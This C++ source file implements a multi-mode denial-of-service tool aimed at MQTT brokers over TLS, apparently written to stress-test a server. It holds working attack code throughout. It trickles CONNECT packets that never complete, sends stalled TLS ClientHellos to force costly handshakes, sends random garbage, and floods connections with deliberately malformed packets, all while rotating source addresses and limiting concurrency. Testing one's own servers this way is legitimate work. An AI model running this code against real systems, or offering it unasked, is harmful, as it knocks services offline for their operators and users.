#include "load_attack.h"

#include <openssl/bio.h>
#include <openssl/ssl.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cstdlib>
#include <deque>
#include <exception>
#include <iostream>
#include <memory>
#include <random>
#include <string>
#include <vector>

#include "load_stats.h"
#include "load_wire.h"

namespace mqtt_load {
namespace {

constexpr double kStepTimeoutSeconds = 10;
constexpr double kGarbageTimeoutSeconds = 2;
constexpr size_t kGarbageBytes = 4096;
constexpr size_t kErrorsKept = 8;

// Limits how many connections are opening at once; waiters are served in order.
class Semaphore {
 public:
  Semaphore(asio::io_context& io, int limit) : io_(io), free_(limit) {}

  awaitable<void> Acquire() {
    if (free_ > 0) {
      --free_;
      co_return;
    }
    auto timer = std::make_shared<asio::steady_timer>(io_, Clock::time_point::max());
    waiters_.push_back(timer);
    co_await timer->async_wait(asio::as_tuple(use_awaitable));  // Release() hands its slot over
  }

  void Release() {
    if (waiters_.empty()) {
      ++free_;
      return;
    }
    waiters_.front()->cancel();
    waiters_.pop_front();
  }

 private:
  asio::io_context& io_;
  int free_;
  std::deque<std::shared_ptr<asio::steady_timer>> waiters_;
};

// A held connection and what is needed to notice the server closing it: a raw read of
// the TCP socket (the TLS layer is never read again after the handshake, so nothing is
// lost) that wakes the writer when it fails. Shared by the writer and the watcher so
// neither outlives the socket or buffer the other still uses.
struct Link {
  Link(asio::io_context& io, ssl::context* tls) : conn(io, tls), wake(io) {}
  Conn conn;
  asio::steady_timer wake;
  bool closed = false;
  std::array<uint8_t, 4096> sink{};
};

struct Counts {
  uint64_t opened = 0;
  uint64_t failed = 0;
  uint64_t closed_by_server = 0;
  int64_t open_now = 0;
  int64_t peak_open = 0;
  uint64_t bytes = 0;

  void Opened() {
    ++opened;
    peak_open = std::max(peak_open, ++open_now);
  }
  std::string ToJson() const {
    Json json;
    json.Add("opened", static_cast<double>(opened))
        .Add("failed", static_cast<double>(failed))
        .Add("closed_by_server", static_cast<double>(closed_by_server))
        .Add("open_at_end", static_cast<double>(open_now))
        .Add("peak_open", static_cast<double>(peak_open))
        .Add("bytes", static_cast<double>(bytes));
    return json.Done();
  }
};

class Backoff {
 public:
  awaitable<void> Wait() {
    co_await Sleep(delay_);
    delay_ = std::min(1.0, delay_ * 2);
  }
  void Reset() { delay_ = 0.01; }

 private:
  double delay_ = 0.01;
};

// A ClientHello as this client context sends it, taken from a memory BIO once: every
// stalled connection sends the same bytes, and the server does a full key exchange and
// signature for each.
Bytes MakeClientHello(ssl::context& tls) {
  SSL* ssl = SSL_new(tls.native_handle());
  BIO* in = BIO_new(BIO_s_mem());
  BIO* out = BIO_new(BIO_s_mem());
  SSL_set_bio(ssl, in, out);
  SSL_set_connect_state(ssl);
  SSL_do_handshake(ssl);  // writes the ClientHello, then wants the server's answer
  char* data = nullptr;
  const long size = BIO_get_mem_data(out, &data);
  Bytes hello(data, data + std::max(0L, size));
  SSL_free(ssl);
  if (hello.empty()) Die("attack: OpenSSL wrote no ClientHello");
  return hello;
}

// The start of a CONNECT that announces `remaining` bytes: a real protocol name, level and
// flags, so only its size gives it away.
Bytes TrickleHeader(uint32_t remaining) {
  Bytes out{0x10};
  PutRemainingLength(out, remaining);
  Bytes body;
  PutString(body, "MQTT");
  body.insert(body.end(), {4, 0xc2, 0, 60});  // 3.1.1, user name + password, keep-alive 60
  PutU16(body, 0xffff);                       // a client id as long as one can be
  out.insert(out.end(), body.begin(), body.end());
  return out;
}

Bytes FloodPacket(const std::string& kind) {
  if (kind == "anonymous") return ConnectPacket("flood", 60);
  if (kind == "none") return {};
  Bytes out = ConnectPacket("flood", 60);
  out[9] |= 0x01;  // the reserved connect flag [MQTT-3.1.2-3]: malformed
  return out;
}

class Attack {
 public:
  explicit Attack(const Options& o)
      : o_(o),
        net_(o.host, o.port, "", o.bind),  // an attacker verifies nothing
        opening_(net_.io, o.concurrency > 0 ? o.concurrency : 64),
        filler_(std::max<size_t>(o.trickle_bytes, 1), 'A'),
        header_(TrickleHeader(o.trickle_announce)),
        flood_packet_(FloodPacket(o.flood_packet)) {
    client_hello_ = MakeClientHello(net_.tls);
    std::mt19937 random(14);
    for (size_t i = 0; i < kGarbageBytes; ++i) garbage_.push_back(static_cast<uint8_t>(random()));
  }

  int Main() {
    start_ = Clock::now();
    deadline_ = start_ + Seconds(o_.seconds);
    for (int i = 0; i < o_.trickle; ++i) Spawn(Trickle());
    for (int i = 0; i < o_.stall; ++i) Spawn(Stall(i % 2 == 0));
    for (int i = 0; i < o_.garbage; ++i) Spawn(Garbage());
    for (int i = 0; i < o_.flood; ++i) Spawn(Flood());
    Spawn(Timeline());
    asio::steady_timer end(net_.io, deadline_);
    end.async_wait([this](boost::system::error_code) {
      std::cout << Report() << std::endl;
      // Thousands of connections and coroutines are still open: the kernel closes them
      // faster than unwinding each would.
      std::_Exit(0);
    });
    net_.io.run();
    return 1;
  }

 private:
  bool Running() const { return Clock::now() < deadline_; }

  void Note(const std::string& where, const std::exception& e) {
    const std::string text = where + ": " + e.what();
    if (errors_.size() < kErrorsKept &&
        std::find(errors_.begin(), errors_.end(), text) == errors_.end()) {
      errors_.push_back(text);
    }
  }

  // A connection to hold open (TLS with `tls`), opened holding one of the opening slots;
  // null, after the back-off, if that failed.
  awaitable<std::shared_ptr<Link>> OpenHeld(Counts& counts, Backoff& backoff, ssl::context* tls,
                                            const char* where) {
    auto link = std::make_shared<Link>(net_.io, tls);
    co_await opening_.Acquire();
    bool ok = false;
    try {
      CloseAfter timeout(net_.io, link->conn, kStepTimeoutSeconds);
      co_await link->conn.Connect(net_.endpoint, net_.sources.Next());
      ok = true;
    } catch (const std::exception& e) {
      Note(where, e);
    }
    opening_.Release();
    if (!ok) {
      ++counts.failed;
      link->conn.Abort();
      co_await backoff.Wait();
      co_return nullptr;
    }
    backoff.Reset();
    counts.Opened();
    co_return link;
  }

  // Reads the raw socket until the server closes it (or the attack ends with the process).
  static awaitable<void> WatchClose(std::shared_ptr<Link> link) {
    try {
      for (;;)
        co_await link->conn.Socket().async_read_some(asio::buffer(link->sink), use_awaitable);
    } catch (const std::exception&) {
    }
    link->closed = true;
    link->wake.cancel();
  }

  awaitable<void> Trickle() {
    Backoff backoff;
    while (Running()) {
      auto link = co_await OpenHeld(trickle_, backoff, &net_.tls, "trickle");
      if (!link) continue;
      if (ramp_s_ < 0 && trickle_.open_now >= o_.trickle) ramp_s_ = SecondsSince(start_);
      Spawn(WatchClose(link));
      try {
        co_await link->conn.Write(header_);
        uint64_t sent = header_.size();
        trickle_.bytes += header_.size();
        // The fixed header is not part of the remaining length: this never completes it.
        while (Running() && !link->closed && sent + filler_.size() < o_.trickle_announce) {
          link->wake.expires_after(Seconds(o_.trickle_interval));
          co_await link->wake.async_wait(asio::as_tuple(use_awaitable));
          if (link->closed || !Running()) break;
          co_await link->conn.Write(filler_);
          sent += filler_.size();
          trickle_.bytes += filler_.size();
        }
      } catch (const std::exception& e) {
        Note("trickle write", e);
      }
      --trickle_.open_now;
      if (!Running()) break;
      ++trickle_.closed_by_server;
      link->conn.Abort();
    }
  }

  awaitable<void> Stall(bool send_hello) {
    Backoff backoff;
    while (Running()) {
      // Raw TCP: the ClientHello is sent as bytes.
      auto link = co_await OpenHeld(stall_, backoff, nullptr, "stall");
      if (!link) continue;
      try {
        if (send_hello) {
          co_await link->conn.Write(client_hello_);
          stall_.bytes += client_hello_.size();
        }
      } catch (const std::exception& e) {
        Note("stall write", e);
      }
      co_await WatchClose(link);
      --stall_.open_now;
      if (!Running()) break;
      ++stall_.closed_by_server;
    }
  }

  // One more connection of a loop that opens and closes them; a failure backs off.
  static awaitable<void> Tally(Counts& counts, Backoff& backoff, bool connected) {
    if (connected) {
      ++counts.opened;
      backoff.Reset();
    } else {
      ++counts.failed;
      co_await backoff.Wait();
    }
  }

  awaitable<void> Garbage() {
    Backoff backoff;
    while (Running()) {
      Conn conn(net_.io, nullptr);
      bool connected = false;
      try {
        CloseAfter timeout(net_.io, conn, kGarbageTimeoutSeconds);
        co_await conn.ConnectTcp(net_.endpoint, net_.sources.Next());
        connected = true;
        co_await conn.Write(garbage_);
        garbage_counts_.bytes += garbage_.size();
        std::array<uint8_t, 4096> sink;
        for (;;) co_await conn.Socket().async_read_some(asio::buffer(sink), use_awaitable);
      } catch (const std::exception& e) {
        if (!connected) Note("garbage", e);  // otherwise the server closed it: the aim
      }
      conn.Abort();
      co_await Tally(garbage_counts_, backoff, connected);
    }
  }

  awaitable<void> Flood() {
    Backoff backoff;
    const bool await_answer = o_.flood_packet == "anonymous";  // a refusal must be read
    while (Running()) {
      Conn conn(net_.io, &net_.tls);
      bool connected = false;
      try {
        CloseAfter timeout(net_.io, conn, kStepTimeoutSeconds);
        co_await conn.Connect(net_.endpoint, net_.sources.Next());
        connected = true;
        if (!flood_packet_.empty()) co_await conn.Write(flood_packet_);
        if (await_answer) co_await conn.ReadPacket();
      } catch (const std::exception& e) {
        if (!connected) Note("flood", e);  // otherwise refused or closed: the aim
      }
      conn.Abort();
      co_await Tally(flood_counts_, backoff, connected);
    }
  }

  awaitable<void> Timeline() {
    for (int second = 1; Running(); ++second) {
      co_await SleepUntil(start_ + Seconds(second));
      trickle_timeline_.push_back(trickle_.open_now);
      stall_timeline_.push_back(stall_.open_now);
    }
  }

  template <typename Awaitable>
  void Spawn(Awaitable body) {
    SpawnOrDie(net_.io, std::move(body), "attack");
  }

  std::string Report() const {
    auto list = [](const auto& values, auto format) {
      std::string text = "[";
      for (const auto& v : values) text += (text.size() > 1 ? ", " : "") + format(v);
      return text + "]";
    };
    auto number = [](int64_t v) { return std::to_string(v); };
    auto quoted = [](const std::string& s) {
      std::string q;
      for (char ch : s) q += (ch == '"' || ch == '\\') ? '\'' : ch;
      return "\"" + q + "\"";
    };
    const double elapsed = SecondsSince(start_);
    Json json;
    json.Add("mode", o_.mode).Add("seconds", o_.seconds).Add("elapsed_s", elapsed);
    json.Add("cpu_s", SelfCpuSeconds()).Add("rss_kb", static_cast<double>(RssKb(getpid())));
    json.Add("flood_packet", o_.flood_packet);
    json.Raw("trickle", trickle_.ToJson()).Add("trickle_ramp_s", ramp_s_);
    json.Raw("stall", stall_.ToJson());
    json.Raw("garbage", garbage_counts_.ToJson());
    json.Raw("flood", flood_counts_.ToJson());
    json.Add("flood_per_s", static_cast<double>(flood_counts_.opened) / elapsed);
    json.Add("garbage_per_s", static_cast<double>(garbage_counts_.opened) / elapsed);
    json.Raw("trickle_open_each_second", list(trickle_timeline_, number));
    json.Raw("stall_open_each_second", list(stall_timeline_, number));
    json.Raw("errors", list(errors_, quoted));
    return json.Done();
  }

  const Options o_;
  Network net_;
  Semaphore opening_;
  const Bytes filler_;
  const Bytes header_;
  const Bytes flood_packet_;
  Bytes client_hello_;
  Bytes garbage_;
  Clock::time_point start_;
  Clock::time_point deadline_;
  double ramp_s_ = -1;
  Counts trickle_, stall_, garbage_counts_, flood_counts_;
  std::vector<int64_t> trickle_timeline_, stall_timeline_;
  std::vector<std::string> errors_;
};

}  // namespace

int RunAttack(const Options& options) {
  Attack attack(options);
  return attack.Main();
}

}  // namespace mqtt_load
